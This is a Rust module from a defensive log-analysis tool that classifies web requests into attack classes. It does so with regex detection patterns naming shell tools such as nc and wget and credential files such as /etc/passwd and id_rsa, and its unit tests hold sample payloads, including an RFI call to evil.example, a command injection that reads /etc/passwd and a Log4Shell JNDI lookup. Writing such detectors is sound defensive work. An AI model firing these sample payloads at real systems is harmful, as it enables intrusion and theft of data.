//! Attack classes in web requests.
//!
//! The request target is URL-decoded until stable (see [`super::urldecode`]) and matched,
//! case-insensitively, against patterns per class: injection (SQL, XSS, OS commands, templates,
//! XML entities), file access (path traversal, local/remote file inclusion), exploit families
//! with fixed shapes (Log4Shell JNDI lookups, Struts OGNL, Spring4Shell class-loader properties,
//! ThinkPHP `invokefunction`, Shellshock function definitions), webshell management clients
//! (China Chopper, AntSword, Behinder, Godzilla), scanners by user agent, and reconnaissance
//! (404s on well-known admin paths, 400s with garbage request lines). The patterns are the
//! project's own, written from the published shape of each attack.

use std::sync::LazyLock;

use regex::{Regex, RegexSet, RegexSetBuilder};
use serde::Serialize;

use super::parse::AccessRecord;
use super::urldecode::{decode_all, fold_separators};

/// One attack class.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, PartialOrd, Ord, Serialize)]
#[serde(rename_all = "snake_case")]
pub enum AttackClass {
    /// SQL injection.
    Sqli,
    /// Cross-site scripting.
    Xss,
    /// Directory traversal (`../`).
    PathTraversal,
    /// Local file inclusion / sensitive file read.
    Lfi,
    /// Remote file inclusion.
    Rfi,
    /// OS command injection.
    CmdInjection,
    /// Server-side template injection.
    Ssti,
    /// XML external entities.
    Xxe,
    /// Log4Shell JNDI lookup.
    Log4Shell,
    /// Apache Struts OGNL injection.
    StrutsOgnl,
    /// Spring4Shell class-loader manipulation.
    Spring4Shell,
    /// ThinkPHP remote code execution.
    ThinkPhp,
    /// Shellshock.
    Shellshock,
    /// Webshell management client traffic.
    WebshellClient,
    /// Vulnerability scanner or attack tool by user agent.
    Scanner,
    /// Probing for well-known admin/setup paths that do not exist here.
    Probe,
    /// Garbage or non-HTTP request line rejected with 400.
    BadRequest,
    /// Spam/harvester bot user agent.
    BadBot,
    /// Claims to be a search-engine crawler (verify by reverse DNS).
    CrawlerClaim,
}

impl AttackClass {
    /// Snake-case name.
    pub fn as_str(self) -> &'static str {
        match self {
            AttackClass::Sqli => "sqli",
            AttackClass::Xss => "xss",
            AttackClass::PathTraversal => "path_traversal",
            AttackClass::Lfi => "lfi",
            AttackClass::Rfi => "rfi",
            AttackClass::CmdInjection => "cmd_injection",
            AttackClass::Ssti => "ssti",
            AttackClass::Xxe => "xxe",
            AttackClass::Log4Shell => "log4shell",
            AttackClass::StrutsOgnl => "struts_ognl",
            AttackClass::Spring4Shell => "spring4shell",
            AttackClass::ThinkPhp => "thinkphp",
            AttackClass::Shellshock => "shellshock",
            AttackClass::WebshellClient => "webshell_client",
            AttackClass::Scanner => "scanner",
            AttackClass::Probe => "probe",
            AttackClass::BadRequest => "bad_request",
            AttackClass::BadBot => "bad_bot",
            AttackClass::CrawlerClaim => "crawler_claim",
        }
    }

    /// True for classes that are exploitation attempts (not mere noise or recon).
    pub fn is_exploit(self) -> bool {
        !matches!(
            self,
            AttackClass::Scanner
                | AttackClass::Probe
                | AttackClass::BadRequest
                | AttackClass::BadBot
                | AttackClass::CrawlerClaim
        )
    }
}

/// Patterns over the decoded, lower-cased target (path + query) and, for some classes, headers.
const TARGET_PATTERNS: &[(AttackClass, &str)] = &[
    // SQL injection
    (
        AttackClass::Sqli,
        r"union(?:\s|/\*.*?\*/|\(|\+)+(?:all\s+|distinct\s+)?(?:\(\s*)?select\b",
    ),
    (
        AttackClass::Sqli,
        r"\bselect\b[\s\S]{1,200}?\bfrom\b[\s\S]{0,100}?\b(?:information_schema|mysql\.|sys\.|dual|pg_|master\.|sysobjects|syscolumns|users?|all_tables|user_tables|v\$)",
    ),
    (
        AttackClass::Sqli,
        r"\bselect\s+(?:@@|user\s*\(|database\s*\(|version\s*\(|current_user|system_user|schema_name|name\s+from|\*\s+from|count\s*\(|char\s*\(|concat|banner|password|username|loginame)",
    ),
    (
        AttackClass::Sqli,
        r#"(?:'|"|\)|\d)\s*(?:or|and|xor|\|\||&&)\s*(?:not\s+)?(?:'[^']*'|"[^"]*"|\d+|true|false|\(|[a-z_]+\s*\()\s*(?:=|<|>|like|is|between|rlike|regexp|\bin\b)"#,
    ),
    (
        AttackClass::Sqli,
        r#"(?:'|"|\))\s*(?:or|and|\|\|)\s*(?:'|")?[a-z0-9_]*(?:'|")?\s*(?:--|#|/\*)"#,
    ),
    (AttackClass::Sqli, r#"(?:'|"|\d|\))\s*(?:--|#|/\*|;\s*--)"#),
    (
        AttackClass::Sqli,
        r"\b(?:sleep|benchmark|pg_sleep|waitfor\s+delay|dbms_pipe\.receive_message|randomblob|extractvalue|updatexml|load_file|utl_inaddr|utl_http|dbms_\w+|xp_cmdshell|xp_dirtree|sp_executesql|sp_password|sp_oacreate|sp_makewebtask|exec\s+master|openrowset|opendatasource|get_host_name|name_const|geometrycollection|multipoint|polygon|gtid_subset|json_keys|ctxsys\.|sys\.dba_|sysdate\s*\()\s*[\(\s'\x22]",
    ),
    (
        AttackClass::Sqli,
        r"\b(?:into\s+(?:out|dump)file|information_schema|@@version|@@servername|@@hostname|@@datadir|@@basedir|sysobjects|syscolumns|sysusers|msysobjects|pg_shadow|pg_user|pg_database|all_users|user_objects|v\$version|sqlite_master|mysql\.user|order\s+by\s+\d+\s*(?:--|#|/\*|$)|group\s+by\s+\d|having\s+\d+\s*=\s*\d|;\s*(?:select|insert|update|delete|drop|create|alter|exec|execute|declare|shutdown|truncate|waitfor)\b|\bcast\s*\(.+\bas\s+\w+|\bconvert\s*\(\s*int|char\s*\(\s*\d+\s*\)\s*(?:\+|\|\||,)|0x[0-9a-f]{8,}|\bcase\s+when\b|\bif\s*\(\s*\d+\s*=\s*\d+|\bnull\s*,\s*null\b|admin'\s*(?:--|#|/\*)|'\s*=\s*'|\bor\s+\d+\s*=\s*\d+|\band\s+\d+\s*=\s*\d+|'\s*\|\|\s*'|\bexec\s*\(\s*@|\bdeclare\s+@|%\s*'|' *;|\blike\s*'%)",
    ),
    (
        AttackClass::Sqli,
        r#"\bor\s+[a-z0-9_]+\s*=\s*[a-z0-9_]+|\bselect\s+(?:current_setting|current_database|session_user|current_user|version|user)\b|\b(?:create|drop|alter)\s+(?:table|user|database)\b|\binsert\s+into\b|\bgrant\s+\w+\s+to\b|@@[a-z_]+|\bsubstring\s*\(|\bis\s+null\s*;|=\s*(?:'|"|`|\\|''|""|``|'\\"|\\\\|'"|"')\s*(?:$|&)|'\s*(?:or|and|like)\s*['"]|['"]\s*[-&^*|+=]\s*['"]|'\s*like\s*'|=\s*(?:and|or)\s+(?:\d+|true|false)\b|\d+\s*-\s*(?:true|false)\b|\d'\d|\)\s*(?:or|and)\s*\(+\s*['"]|\|\|\s*[a-z_]+\.[a-z_]+\s*\(|\bbackup\s+database\b|\bexec\s+(?:sp_|xp_|master)"#,
    ),
    // XSS
    (
        AttackClass::Xss,
        r"<\s*/?\s*(?:script|iframe|img|svg|body|object|embed|applet|meta|link|style|form|input|video|audio|marquee|details|math|base|frameset|frame|isindex|textarea|keygen|xss|a\s|div|table|td|bgsound|layer|ilayer|html|xml|image|select|button|plaintext|x\s|animate|set|source|template|title)\b",
    ),
    (
        AttackClass::Xss,
        r"(?:javascript|vbscript|livescript|mocha|data\s*:\s*text/html|data\s*:\s*image/svg)\s*:",
    ),
    (
        AttackClass::Xss,
        r"\bon[a-z]{3,25}\s*=|\bstyle\s*=[^>]*expression\s*\(|\balert\s*[\(`]|\bprompt\s*[\(`]|\bconfirm\s*[\(`]|document\s*\.\s*(?:cookie|domain|write|location)|window\s*\.\s*location|string\s*\.\s*fromcharcode|\beval\s*\(|&#x?[0-9a-f]+;?\s*&#|<!--|-->|\]\]>|\\u003c|\\x3c|&lt;\s*script|\bsrcdoc\s*=|\bxlink:href|\bformaction\s*=|\bbackground\s*=\s*['\x22]?javascript|\bseekSegmentTime|\bgeturl\s*\(|asfunction:|\btop\s*\[|\bself\s*\[|\bparent\s*\[|\bfetch\s*\(|\bimport\s*\(|\bxss\b",
    ),
    (
        AttackClass::Xss,
        r#"<\s*/?\s*[a-z][a-z0-9:_-]*(?:\s|/?>|$)|<[!?%]|\b(?:alert|prompt|confirm)\s*(?:&\w+;|&#x?[0-9a-f]+;?|\)|,)|\((?:alert|prompt|confirm)\)|=\s*(?:alert|prompt|confirm)\s*[,;]|\\u00[0-9a-f]{2}|data\s*:\s*text/html|data\s*:[^,]{0,40};base64|PHN2Zy|PHNjcmlwd|PGltZy|PGlmcmFtZ|fscommand|navigator\s*\.|window\s*\.\s*open|\blocation\s*=|\$\(\s*["']|\.click\s*\(|@font-face|\burl\s*\(|#default#|\bdatasrc\b|\bdatafld\b|\bxmlns\b|\+ADw-|\bfunction\s*\w*\s*\(|=\s*on(?:abort|activate|afterprint|afterupdate|animation\w*|auxclick|before\w+|begin|blur|bounce|canplay\w*|cellchange|change|click|contextmenu|controlselect|copy|cut|dataavailable|datasetchanged|datasetcomplete|dblclick|deactivate|drag\w*|drop|durationchange|emptied|end|ended|error|errorupdate|filterchange|finish|focus\w*|fullscreenchange|hashchange|help|input|invalid|key\w+|layoutcomplete|load\w*|losecapture|mediacomplete|mediaerror|message|mouse\w*|move\w*|mozfullscreen\w*|outofsync|paste|pause|play\w*|popstate|progress|propertychange|ratechange|readystatechange|redo|repeat|reset|resize\w*|resume|reverse|row\w*|scroll|seek\w*|select\w*|show|stalled|start|stop|storage|submit|suspend|syncrestored|timeerror|timeupdate|toggle|touch\w*|trackchange|transition\w*|undo|unload|urlflip|volumechange|waiting|webkit\w*|wheel|pointer\w*|page(?:show|hide)|cuechange|visibilitychange|afterscriptexecute|beforescriptexecute)\s*(?:$|&)"#,
    ),
    // Path traversal
    (
        AttackClass::PathTraversal,
        r"(?:\.\.|\.\?|\?\.)[/\\;]|[/\\]\.\.(?:$|[?&#\s])|\.\.(?:%00|\x00|%c0|%c1|%e0|%f0)|\.{3,}[/\\]|(?:\.\.|%2e%2e)(?:%2f|%5c|%u2215|%u2216)|(?:%2e|\.){2}(?:%2f|%5c)",
    ),
    // Local file inclusion / sensitive files
    (
        AttackClass::Lfi,
        r"(?:^|[=/\\'\x22\s:]|\.\.)(?:etc/(?:passwd|shadow|group|hosts|issue|motd|bashrc|profile|crontab|fstab|mtab|inittab|resolv\.conf|sudoers|ssh/|httpd|apache|nginx|mysql|php|init\.d|network|security|master\.passwd|pwd\.db|spwd\.db|login\.defs|syslog|redhat-release|debian_version|lsb-release|os-release|hostname|exports|ftp|samba|proftpd|pure-ftpd|vsftpd|wu-ftpd|x11|cups|updatedb|knockd|chrootusers|logrotate|my\.cnf|lighttpd|sysconfig|environment)|proc/(?:self|\d+|version|cpuinfo|meminfo|mounts|net|sched_debug|interrupts|loadavg|partitions|stat|swaps|modules|cmdline|filesystems|devices|ioports|kcore)|var/(?:log|lib|mail|spool|run|www|apache|db|adm|cpanel|lighttpd)|usr/(?:local|lib|share|etc|pkg|ports|sbin|bin|spool)|root/|home/\w|opt/|tmp/|dev/(?:null|zero|random|fd|tty)|boot\.ini|win\.ini|system\.ini|windows[/\\]|winnt[/\\]|inetpub[/\\]|program\s*files|documents\s+and\s+settings|system32|autoexec\.bat|config\.sys|php\.ini|httpd\.conf|\.htaccess|\.htpasswd|web\.config|wp-config\.php|config\.inc\.php|\.bash_history|\.ssh/|id_rsa|authorized_keys|\.env\b|library/|applications/|private/|system/library|volumes/|users/|sbin/|bin/|lib/|srv/|sys/|mnt/|apache|nginx|xampp|wamp|htdocs|logs?/|access[._-]log|error[._-]log)",
    ),
    (
        AttackClass::Lfi,
        r"(?:php|file|zip|phar|glob|data|expect|input|compress\.zlib|compress\.bzip2|ogg|rar|ssh2|zlib|jar|netdoc|gopher|dict)://|php://(?:filter|input|fd|memory|temp)|convert\.(?:base64|iconv|quoted)|%00|\x00|[a-z]:\\|[a-z]:/(?:windows|winnt|boot|inetpub|program|users|documents|xampp|wamp|apache|php)|\\\\[a-z0-9.]+\\",
    ),
    // Remote file inclusion
    (
        AttackClass::Rfi,
        r"[?&][^=&]{1,40}=\s*(?:https?|ftps?|php|data|expect)://[^&]*(?:\?$|\?&|\.(?:txt|php|inc|jpg|gif|png|htm|html)\??(?:$|&)|%00)",
    ),
    (
        AttackClass::Rfi,
        r"[?&](?:page|file|include|inc|path|dir|template|tpl|document|doc|folder|root|pg|style|pdf|lang|language|module|mod|conf|config|site|show|view|content|cat|action|load|read|url|src|href|show_file|filename|load_file)=\s*(?:https?|ftps?)://",
    ),
    // OS command injection
    (
        AttackClass::CmdInjection,
        r"(?:^|[=;&|`'\x22\s(\n\r]|\$\(|\|\||&&|%0a|%0d)\s*(?:/(?:usr/)?(?:local/)?s?bin/)?(?:id|whoami|uname|cat|ls|dir|pwd|wget|curl|nc|ncat|netcat|bash|sh|zsh|ksh|csh|python\d?|perl|ruby|php|ping|sleep|nslookup|dig|host|echo|net|netstat|ifconfig|ipconfig|sysinfo|systeminfo|ps|kill|chmod|chown|rm|mkdir|touch|cp|mv|tftp|ftp|telnet|ssh|uname|hostname|type|find|grep|which|whereis|locate|env|set|printenv|export|crontab|at|powershell|cmd|cmd\.exe|certutil|bitsadmin|mshta|rundll32|regsvr32|tasklist|taskkill|query|reg|sc|wmic|vssadmin|xterm|nohup|base64|xxd|od|head|tail|more|less|awk|sed|tar|gzip|java|node|exec|system|passthru|shell_exec|popen|proc_open|eval|phpinfo|phpversion|sysinfo|copy|del|ver|vol|path|net\.exe|ifconfig|route|arp|traceroute|tracert|w|who|last|mail|lynx|fetch|gcc|cc|make|useradd|adduser|passwd|su|sudo)(?:$|[\s;&|`'\x22<>(){}$]|\.exe|%20|\+|,|\$\{ifs\})",
    ),
    (
        AttackClass::CmdInjection,
        r"\$\{ifs\}|\$ifs\$|\$\(\s*[a-z]|`[^`]*`|^\s*(?:\||\|\||&&|&|;|`|'|\x22|\\n|\\r|%0a|%0d|\$\()+\s*$|\|\s*\w+\s*\||;\s*\w+\s*;|\|\s*/(?:usr/)?bin/|\n\s*\w+|/bin/(?:ba)?sh\b|cmd(?:\.exe)?\s*/c|>\s*/dev/|<!--#exec|\bsystem\s*\(|\bexec\s*\(|\bpassthru\s*\(|\bshell_exec\s*\(|\bpopen\s*\(|\bphpinfo\s*\(|\bphpversion\s*\(|\bos\.system|\bos\.popen|\bsubprocess|\bruntime\b[^&]*\bexec|\bperl\s+-e|\bpython\s+-c",
    ),
    (
        AttackClass::CmdInjection,
        r#"=(?:\s)*(?:`|\|\|?|;|&&?|'|"|'"|"'|\\n|\\r|\\r\\n|\n|\r|\r\n)\s*(?:$|&)|(?:\\n|\\r|[;|&`])\s*(?:/(?:usr/)?(?:local/)?s?bin/)?(?:id|whoami|uname|ls|cat|echo|sleep|ping|wget|curl|nc|bash|sh|netstat|ifconfig|ipconfig|dir|type|net|exit)(?:$|[\s;|&`'"\\<>])|\{\$\{|\$\{@?(?:print|system|eval|phpinfo)"#,
    ),
    (
        AttackClass::Lfi,
        r#"=\s*(?:/+(?:etc|proc|var|usr|root|home|opt|tmp|dev|sys|boot|lib|lib64|bin|sbin|srv|mnt|private|library|applications|users|system|volumes|windows|winnt|inetpub|apache\d?|nginx|xampp|wamp)(?:/|\\|$|&)|[a-z]:[\\/])|\.\.2f|2fetc2f|etc[/\\]+[a-z_.-]+(?:passwd|shadow|conf|cnf|ini)\b"#,
    ),
    // SSTI
    (
        AttackClass::Ssti,
        r"\{\{[\s\S]{0,300}\}\}|\{%[\s\S]{0,300}%\}|\$\{[^}]{0,300}\}|#\{[^}]{0,200}\}|\*\{[^}]{0,200}\}|@\([^)]{0,100}\)|<%=?[\s\S]{0,200}%>|__class__|__mro__|__subclasses__|__globals__|__builtins__|__import__|\bt\(java\.lang|freemarker\.template|\.getclass\(\)|\[\[[\s\S]{0,100}\]\]",
    ),
    // XXE
    (
        AttackClass::Xxe,
        r"<!doctype[^>]*\[|<!entity|<!element|<!attlist|\bsystem\s+['\x22](?:file|http|https|ftp|php|expect|jar|netdoc|gopher)://|<\?xml\b|<xi:include|xmlns:xi=|<!\[cdata\[",
    ),
    // Log4Shell
    (
        AttackClass::Log4Shell,
        r"\$\{(?:[^}]{0,40}\$\{)*[^}]{0,40}(?:j|\$\{[^}]{0,30}\})[\s\S]{0,60}?(?:n|\$\{[^}]{0,30}\})[\s\S]{0,60}?(?:d|\$\{[^}]{0,30}\})[\s\S]{0,60}?(?:i|\$\{[^}]{0,30}\})[\s\S]{0,60}?:|\$\{(?:jndi|lower|upper|env|sys|java|date|ctx|main|bundle|marker|sd|map|k8s|docker|spring|log4j|base64|web|::-)[:}]",
    ),
    // Struts OGNL
    (
        AttackClass::StrutsOgnl,
        r"%\{|\(#_memberaccess|#_memberaccess|@ognl\.ognlcontext|ognl\.ognlcontext|#context\[|xwork\.methodaccessor|allowstaticmethodaccess|#application\[|redirect(?:action)?:\$\{|action:\$\{|\bstruts\.token",
    ),
    // Spring4Shell / Spring
    (
        AttackClass::Spring4Shell,
        r"class\.module\.classloader|class\.classloader|\.classloader\.resources\.context|\[class\]\.classloader",
    ),
    // ThinkPHP
    (
        AttackClass::ThinkPhp,
        r"\\think\\(?:app|container|request|template|view)|think\\app/invokefunction|invokefunction&function=call_user_func|s=/?index/\\?think|_method=__construct|filter\[\]=(?:system|assert|call_user_func)|vars\[1\]\[\]=",
    ),
    // Shellshock in the target
    (AttackClass::Shellshock, r"\(\s*\)\s*\{\s*:?\s*;?\s*\}\s*;"),
    // Webshell clients in the target
    (
        AttackClass::WebshellClient,
        r"[?&]z[0-9]=|@eval\(\s*(?:base64_decode\s*\(\s*)?\$_post|[?&]pass=\d{1,4}$|[?&](?:caidao|chopper|antsword|cknife|behinder|godzilla)\b|\bx@ster|\bant=@eval",
    ),
];

const UA_PATTERNS: &[(AttackClass, &str)] = &[
    (
        AttackClass::Scanner,
        r"sqlmap|nikto|nmap|masscan|zgrab|dirsearch|gobuster|dirbuster|nuclei|fscan|wpscan|acunetix|netsparker|nessus|openvas|w3af|arachni|skipfish|ffuf|fuzz faster|feroxbuster|wfuzz|whatweb|hydra|medusa|commix|xsser|jaeles|xray|goby|awvs|appscan|burp|zmeu|morfeus|paros|webinspect|qualys|vega/|nsfocus|jorgee|zmap|censys|httpx|subfinder|python-requests|go-http-client|libwww-perl|masscan|hello, world|sysscan|dotdotpwn|struts-pwn|ysoserial|metasploit|havij|pangolin|bbqsql|grabber|webshag|uniscan|owasp|nuclei|scanbot|l9explore|l9tcpid|webfuzz",
    ),
    (
        AttackClass::WebshellClient,
        r"antsword|caidao|chopper|cknife|behinder|godzilla|weevely|altman",
    ),
    (
        AttackClass::BadBot,
        r"trackback/|emailcollector|emailsiphon|emailwolf|extractorpro|webbandit|webemailextrac|atspider|cherrypicker|crescent|emailmagnet|microsoft url control|mozilla/3\.mozilla/2\.01|newt activex|nicerspro|zeus|webzip|takeout|bullseye|copyrightcheck|franklin locator|mailto:craftbot|program shareware|telesoft|true_robot|wisenutbot|frontpage|dts agent|ecollector|indy library|web image collector|httrack",
    ),
    (
        AttackClass::CrawlerClaim,
        r"googlebot|bingbot|baiduspider|yandexbot",
    ),
    (AttackClass::Shellshock, r"\(\s*\)\s*\{\s*:?\s*;?\s*\}\s*;"),
    (
        AttackClass::Log4Shell,
        r"\$\{(?:jndi|lower|upper|env|sys|::-|\$\{)",
    ),
    (
        AttackClass::Sqli,
        r"union\s+(?:all\s+)?select|\bsleep\s*\(\s*\d|'\s*or\s*'1'\s*=\s*'1",
    ),
];

/// Paths scanners probe for (admin panels, setup scripts, leaked files); a 4xx on one of them is
/// reconnaissance.
static PROBE: LazyLock<Regex> = LazyLock::new(|| {
    crate::fastre::new(r"(?i)^/+(?:(?:admin|administrator|cgi-bin|scripts|db|mysql|tools|web|www|old|new|backup)/)?(?:phpmyadmin|pma|myadmin|mysqladmin|mysql|phpmy|sqlweb|websql|dbadmin|db|admin/pma|admin/phpmyadmin|webmail|mail|mails|extmail|roundcube|rcube|squirrelmail|horde|v-?webmail|pmapper|wp-login\.php|wp-admin|xmlrpc\.php|administrator|manager/html|jmx-console|web-console|invoker|axis2|solr|actuator|\.env|\.git|\.svn|\.ds_store|cgi-bin|scripts/setup\.php|setup\.php|install\.php|shell\.php|cmd\.php|webdav|hnap1|boaform|vendor/phpunit|console|_ignition|owa|autodiscover|ecp|remote/login|dana-na|global-protect|tmui|\.well-known/security|server-status|config\.php|wp-config|backup|bak|old|test\.php|info\.php|phpinfo\.php|telescope|druid|nacos|struts|weblogic|wls-wsat|_async|solr|jenkins|hudson|owncloud|nextcloud|zabbix|cacti|nagios|muieblackcat|w00tw00t|azenv\.php|timthumb\.php|kerbynet)")
        .expect("static regex")
});

static TARGET_SETS: LazyLock<Vec<(AttackClass, Regex)>> = LazyLock::new(|| {
    TARGET_PATTERNS
        .iter()
        .map(|(c, p)| {
            (
                *c,
                crate::fastre::new(&format!("(?i){p}")).expect("static regex"),
            )
        })
        .collect()
});

/// All target patterns at once. The lazy DFA gets a bigger cache than the default: with the
/// default 2 MiB these 30 case-insensitive patterns do not fit, the engine falls back to the
/// PikeVM for every line, and classification ran 40–60× slower (85 % of the log time).
static TARGET_SET: LazyLock<RegexSet> = LazyLock::new(|| {
    RegexSetBuilder::new(
        TARGET_PATTERNS
            .iter()
            .map(|(_, p)| crate::fastre::ascii_classes(&format!("(?i){p}"))),
    )
    .dfa_size_limit(32 << 20)
    .build()
    .expect("static regex")
});

/// Classes whose patterns are also meaningful in the path itself (the others only in the query:
/// a path like `/lib/bin/x.js` is not a file-inclusion attempt).
fn path_capable(class: AttackClass) -> bool {
    matches!(
        class,
        AttackClass::PathTraversal
            | AttackClass::Log4Shell
            | AttackClass::StrutsOgnl
            | AttackClass::Spring4Shell
            | AttackClass::ThinkPhp
            | AttackClass::Shellshock
            | AttackClass::Xss
            | AttackClass::Sqli
    )
}

static UA_SET: LazyLock<Vec<(AttackClass, Regex)>> = LazyLock::new(|| {
    UA_PATTERNS
        .iter()
        .map(|(c, p)| {
            (
                *c,
                crate::fastre::new(&format!("(?i){p}")).expect("static regex"),
            )
        })
        .collect()
});

/// The classes of one request, with the decoded target they were found in.
#[derive(Debug, Clone, Default, PartialEq, Eq, Serialize)]
pub struct Classification {
    /// Classes found (sorted, unique).
    pub classes: Vec<AttackClass>,
    /// The decoded target.
    pub decoded: String,
    /// Number of URL-decoding rounds that changed the target (2+ = double encoding).
    pub decode_rounds: usize,
}

/// Classifies a decoded string (a query or any request-derived text): every class applies.
pub fn classify_text(decoded: &str, out: &mut Vec<AttackClass>) {
    classify_scoped(decoded, false, out);
}

fn classify_scoped(decoded: &str, path_only: bool, out: &mut Vec<AttackClass>) {
    if decoded.is_empty() {
        return;
    }
    let matches = TARGET_SET.matches(decoded);
    if !matches.matched_any() {
        return;
    }
    for i in matches.iter() {
        let class = TARGET_SETS[i].0;
        if path_only && !path_capable(class) {
            continue;
        }
        if !out.contains(&class) {
            out.push(class);
        }
    }
}

/// Classifies one access record.
pub fn classify(rec: &AccessRecord) -> Classification {
    let (decoded, rounds) = decode_all(&rec.target);
    let mut classes = Vec::new();
    // The query carries most payloads; the path is checked for the classes that make sense
    // there (traversal, exploit-family shapes, script tags).
    let raw_path_len = rec.target.find('?').unwrap_or(rec.target.len());
    let (path_decoded, _) = decode_all(&rec.target[..raw_path_len]);
    let path_decoded = fold_separators(&path_decoded);
    classify_scoped(&path_decoded, true, &mut classes);
    if raw_path_len < rec.target.len() {
        let (query, _) = decode_all(&rec.target[raw_path_len..]);
        let query = fold_separators(&query);
        classify_scoped(&query, false, &mut classes);
    }
    if traversal_to_target(&rec.target) && !classes.contains(&AttackClass::PathTraversal) {
        classes.push(AttackClass::PathTraversal);
    }
    if path_decoded.contains("..") {
        // Traversal towards a sensitive file is a file-inclusion attempt too.
        let mut lfi = Vec::new();
        classify_scoped(&path_decoded, false, &mut lfi);
        if lfi.contains(&AttackClass::Lfi) {
            classes.push(AttackClass::Lfi);
        }
    }
    let (ua, _) = decode_all(&rec.user_agent);
    for (class, re) in UA_SET.iter() {
        if re.is_match(&ua) && !classes.contains(class) {
            classes.push(*class);
        }
    }
    let (referer, _) = decode_all(&rec.referer);
    for (class, re) in UA_SET.iter().filter(|(c, _)| {
        matches!(
            c,
            AttackClass::Shellshock | AttackClass::Log4Shell | AttackClass::Sqli
        )
    }) {
        if re.is_match(&referer) && !classes.contains(class) {
            classes.push(*class);
        }
    }
    if let Some(status) = rec.status {
        if (400..500).contains(&status) && status != 401 && PROBE.is_match(rec.path()) {
            classes.push(AttackClass::Probe);
        }
        if status == 400 {
            classes.push(AttackClass::BadRequest);
        }
    }
    classes.sort();
    classes.dedup();
    Classification {
        classes,
        decoded,
        decode_rounds: rounds,
    }
}

static TRAVERSAL_TARGET: LazyLock<Regex> = LazyLock::new(|| {
    crate::fastre::new(
        r"(?i)etc.{1,16}?(?:passwd|issue|hosts|shadow|group)|boot\.ini|win\.ini|system32|\{file\}",
    )
    .expect("static regex")
});

/// Traversal fuzzers (dotdotpwn and friends) wrap `etc/passwd` or `boot.ini` in every broken
/// encoding there is; what stays constant is junk made of dots, `?` and escapes before a
/// well-known target file.
fn traversal_to_target(raw_target: &str) -> bool {
    let q = match raw_target.find('?') {
        Some(i) => &raw_target[i + 1..],
        None => raw_target,
    };
    // Every decoding round is looked at: broken double encodings (`%%32%%66`) turn the target
    // itself into garbage when decoded once too often.
    let mut cur = q.as_bytes().to_vec();
    for _ in 0..super::urldecode::MAX_ROUNDS {
        let next = super::urldecode::decode_once(&cur, true);
        let text = fold_separators(&String::from_utf8_lossy(&next));
        if junk_before_target(&text) {
            return true;
        }
        if next == cur {
            break;
        }
        cur = next;
    }
    false
}

fn junk_before_target(folded: &str) -> bool {
    let Some(m) = TRAVERSAL_TARGET.find(folded) else {
        return false;
    };
    let prefix = &folded[..m.start()];
    let value = prefix.rsplit('=').next().unwrap_or(prefix);
    let odd = value
        .chars()
        .filter(|c| !c.is_ascii_alphanumeric() && !matches!(c, '/' | '\\' | ' '))
        .count();
    odd >= 2
        && value
            .chars()
            .any(|c| matches!(c, '.' | '?' | '%' | '^') || !c.is_ascii() || (c as u32) < 0x20)
}

/// True when `path` is a well-known probe target.
pub fn is_probe_path(path: &str) -> bool {
    PROBE.is_match(path)
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::logs::parse::parse_line;

    fn classes(target: &str) -> Vec<AttackClass> {
        let line = format!(
            "203.0.113.5 - - [01/Jan/2024:00:00:00 +0000] \"GET {target} HTTP/1.1\" 200 1 \"-\" \"Mozilla/5.0\""
        );
        classify(&parse_line(&line).expect("parse")).classes
    }

    #[test]
    fn classes_by_shape() {
        assert!(classes("/p.php?id=1%20UNION%20SELECT%201,2,3--").contains(&AttackClass::Sqli));
        assert!(classes("/s?q=%3Cscript%3Ealert(1)%3C/script%3E").contains(&AttackClass::Xss));
        assert!(classes("/d?f=..%252f..%252fetc%252fpasswd").contains(&AttackClass::PathTraversal));
        assert!(classes("/i.php?page=http://evil.example/x.txt?").contains(&AttackClass::Rfi));
        assert!(
            classes("/ping?ip=127.0.0.1;cat%20/etc/passwd").contains(&AttackClass::CmdInjection)
        );
        assert!(classes("/?x=${jndi:ldap://e.example/a}").contains(&AttackClass::Log4Shell));
        assert!(classes(
            "/index.php?s=/Index/\\think\\app/invokefunction&function=call_user_func_array"
        )
        .contains(&AttackClass::ThinkPhp));
        assert!(classes(
            "/?class.module.classLoader.resources.context.parent.pipeline.first.pattern=x"
        )
        .contains(&AttackClass::Spring4Shell));
    }

    #[test]
    fn benign_requests() {
        for t in [
            "/",
            "/index.php?p=42",
            "/wp-content/themes/twentytwenty/style.css?ver=6.1",
            "/search?q=rust+programming",
            "/blog/2024/01/hello-world/",
            "/api/v1/users?page=2&sort=name",
            "/static/app.min.js",
        ] {
            assert!(classes(t).is_empty(), "{t}: {:?}", classes(t));
        }
    }
}
